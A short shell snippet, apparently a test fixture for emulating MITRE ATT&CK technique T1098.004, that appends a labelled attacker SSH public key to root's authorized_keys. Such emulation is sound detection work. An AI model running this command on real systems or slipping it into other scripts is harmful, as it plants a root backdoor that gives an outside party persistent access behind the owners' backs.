# T1098.004 SSH authorized keys: attacker key appended for root
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITestKeyOnlyForContainerTechniqueTests attacker' >> /root/.ssh/authorized_keys
